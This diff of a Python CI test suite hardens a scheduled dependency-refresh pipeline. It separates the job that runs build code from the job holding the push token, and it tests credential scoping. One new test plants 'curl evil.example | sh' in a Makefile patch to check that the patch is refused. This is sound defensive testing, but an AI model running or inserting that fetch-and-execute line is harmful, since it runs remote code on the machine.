@@ -117,10 +117,11 @@ def test_bot_workflows_pin_actions_and_grant_least_privilege(project: Path) -> N
                 if "uses" in step:
                     assert re.fullmatch(r"[\w.-]+/[\w.-]+@[0-9a-f]{40}", step["uses"]), step["uses"]
                     assert re.search(re.escape(step["uses"]) + r" # v\d+\.\d+\.\d+\n", text), step["uses"]
-                if step.get("uses", "").startswith("actions/checkout@"):
-                    # Only the job that pushes keeps its credentials, and it runs nothing from the branch.
-                    assert step["with"]["persist-credentials"] is (not any("run" in s and "make" in s["run"]
-                                                                             for s in job["steps"]))
+                # A job that runs the project's code (make) never keeps credentials: only one that runs
+                # nothing but git may (the bots' push; the refresh hands its token to create-pull-request).
+                if step.get("uses", "").startswith("actions/checkout@") and any(
+                        "run" in s and "make" in s["run"] for s in job["steps"]):
+                    assert step["with"]["persist-credentials"] is False
                 if step.get("uses", "").startswith("astral-sh/setup-uv@"):
                     assert step["with"]["version"] == uv_version.group(1)  # the uv the tool's image carries
                 assert "${{" not in step.get("run", "")  # expressions reach scripts through env only
@@ -175,10 +176,18 @@ def test_renovate_bumps_the_qemu_image_in_both_ci_files(project: Path) -> None:
 
 
 def test_gitlab_refresh_runs_only_in_scheduled_pipelines(project: Path) -> None:
+    """The lock (uv, which may run a release's build code) and the push (BOTS_TOKEN, scoped to the
+    environment `refresh`, and nothing but git) are two jobs; the registry's password is scoped to the
+    publishing jobs' environment, out of the tests' reach."""
     pipeline = load(project / ".gitlab-ci.yml")
-    refresh = pipeline["refresh"]
-    assert refresh["stage"] == ".pre" and refresh["rules"] == [{"if": '$CI_PIPELINE_SOURCE == "schedule"'}]
-    assert refresh["script"][:2] == ["make lock UPGRADE=1", "make check"]
+    refresh, push = pipeline["refresh"], pipeline["refresh:push"]
+    for job in (refresh, push):
+        assert job["stage"] == ".pre" and job["rules"] == [{"if": '$CI_PIPELINE_SOURCE == "schedule"'}]
+    assert refresh["script"][:2] == ["make lock UPGRADE=1", "make check"] and "environment" not in refresh
+    assert push["needs"] == ["refresh"] and push["environment"] == {"name": "refresh", "action": "prepare"}
+    assert "make " not in "\n".join(push["script"]) and "BOTS_TOKEN" not in "\n".join(refresh["script"])
+    assert pipeline[".publishing"]["environment"] == {"name": "registry", "action": "prepare"}
+    assert "environment" not in pipeline["test"] and "environment" not in pipeline["build"]
 
 
 def answers(project: Path) -> dict[str, Any]:
@@ -502,13 +511,18 @@ def gitlab_refresh(repo: Repo, tmp_path: Path, name: str) -> subprocess.Complete
     """The GitLab refresh job's script in a clone of main, pushing to origin through its HTTPS URL."""
     clone = tmp_path / name
     git(tmp_path, "clone", "-q", str(repo.origin), str(clone))
-    refresh = load(clone / ".gitlab-ci.yml")["refresh"]
+    pipeline = load(clone / ".gitlab-ci.yml")
+    lock = subprocess.run(["sh", "-e", "-c", "\n".join(pipeline["refresh"]["script"])], cwd=clone,
+                          capture_output=True, text=True, env={k: v for k, v in os.environ.items() if "TOKEN" not in k})
+    assert lock.returncode == 0, lock.stdout + lock.stderr
+    git(clone, "checkout", "--", ".")  # the next job's own checkout, with the first one's artifact (refresh.patch)
+    push = pipeline["refresh:push"]
     url = "https://refresh:glpat-test@gitlab.example.com/group/demo.git"
-    env = {**os.environ, **refresh["variables"], "CI_SERVER_PROTOCOL": "https", "CI_SERVER_HOST": "gitlab.example.com",
+    env = {**os.environ, **push["variables"], "CI_SERVER_PROTOCOL": "https", "CI_SERVER_HOST": "gitlab.example.com",
            "CI_SERVER_FQDN": "gitlab.example.com", "CI_PROJECT_PATH": "group/demo", "CI_DEFAULT_BRANCH": "main",
            "BOTS_TOKEN": "glpat-test", "GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": f"url.{repo.origin}.insteadOf",
            "GIT_CONFIG_VALUE_0": url}
-    return subprocess.run(["sh", "-e", "-c", "\n".join(refresh["script"])], cwd=clone, capture_output=True,
+    return subprocess.run(["sh", "-e", "-c", "\n".join(push["script"])], cwd=clone, capture_output=True,
                           text=True, env=env)
 
 
@@ -569,16 +583,26 @@ def test_weekly_refresh_brings_an_upstream_fix_into_a_published_base(registry: R
         assert docker("build", "--network", "host", "--tag", upstream, str(fixed)).returncode == 0
         assert docker("push", upstream).returncode == 0
         flow = load(project / ".github/workflows/refresh.yml")
-        steps = flow["jobs"]["refresh"]["steps"]
-        assert [s["uses"].split("@")[0] for s in steps if "uses" in s] == [
-            "actions/checkout", "astral-sh/setup-uv", "peter-evans/create-pull-request"]
-        for step in steps:
+        lock, opener = flow["jobs"]["lock"], flow["jobs"]["pull-request"]
+        assert [s["uses"].split("@")[0] for s in lock["steps"] if "uses" in s] == [
+            "actions/checkout", "astral-sh/setup-uv", "actions/upload-artifact"]
+        assert [s["uses"].split("@")[0] for s in opener["steps"] if "uses" in s] == [
+            "actions/checkout", "actions/download-artifact", "peter-evans/create-pull-request"]
+        assert "secrets" not in json.dumps(lock) and not [s for s in opener["steps"] if "make" in s.get("run", "")]
+        runner = {**os.environ, "RUNNER_TEMP": str(tmp_path), "GITHUB_OUTPUT": str(tmp_path / "output")}
+        for step in lock["steps"]:  # uv runs here, with no secret in reach
             if "run" in step:
                 result = subprocess.run(["bash", "-e", "-c", step["run"]], cwd=project, capture_output=True,
-                                        text=True)
+                                        text=True, env=runner)
                 assert result.returncode == 0, result.stdout + result.stderr
+        assert (tmp_path / "output").read_text() == "changed=true\n"
+        git(project, "checkout", "--", ".")  # the pull-request job's fresh checkout takes the patch
+        (apply,) = [s for s in opener["steps"] if "run" in s]
+        result = subprocess.run(["bash", "-e", "-c", apply["run"]], cwd=project, capture_output=True, text=True,
+                                env={**runner, "PATCH": str(tmp_path / "refresh.patch")})
+        assert result.returncode == 0, result.stdout + result.stderr
         # create-pull-request commits what moved among its add-paths to its branch.
-        request = next(s for s in steps if "uses" in s and "create-pull-request" in s["uses"])["with"]
+        request = next(s for s in opener["steps"] if "create-pull-request" in s.get("uses", ""))["with"]
         moved = set(git(project, "diff", "--name-only").splitlines())
         assert not git(project, "ls-files", "--others", "--exclude-standard")
         assert moved and moved <= set(request["add-paths"].split())
@@ -593,3 +617,24 @@ def test_weekly_refresh_brings_an_upstream_fix_into_a_published_base(registry: R
         assert fix.stdout == "patched\n", fix.stderr
     finally:
         docker("rmi", "--force", *refs, f"{registry.host}/bots/fresh:t1", f"{registry.host}/bots/freshbase:buildcache")
+
+
+def test_the_refresh_pull_request_job_applies_only_the_locks_files(project: Path, tmp_path: Path) -> None:
+    """The job holding BOTS_TOKEN runs no make and no uv: it applies the first job's patch to the three
+    files the lock writes, and refuses one that reaches further (the Makefile, say)."""
+    copy = tmp_path / "copy"
+    shutil.copytree(project, copy)
+    git(copy, "init", "-q")
+    git(copy, "add", "-A")
+    git(copy, *ME, "commit", "-qm", "main")
+    (copy / "Dockerfile").write_text((copy / "Dockerfile").read_text() + "# moved\n")
+    (copy / "Makefile").write_text((copy / "Makefile").read_text() + "\nall:\n\tcurl evil.example | sh\n")
+    patch = tmp_path / "refresh.patch"
+    patch.write_text(git(copy, "diff", "--binary") + "\n")
+    git(copy, "checkout", "--", ".")
+    (apply,) = [s for s in load(copy / ".github/workflows/refresh.yml")["jobs"]["pull-request"]["steps"] if "run" in s]
+    result = subprocess.run(["bash", "-e", "-c", apply["run"]], cwd=copy, capture_output=True, text=True,
+                            env={**os.environ, "PATCH": str(patch)})
+    assert result.returncode == 1
+    assert result.stderr.strip() == "refusing a patch that touches more than the lock's files: Makefile"
+    assert not git(copy, "status", "--porcelain")
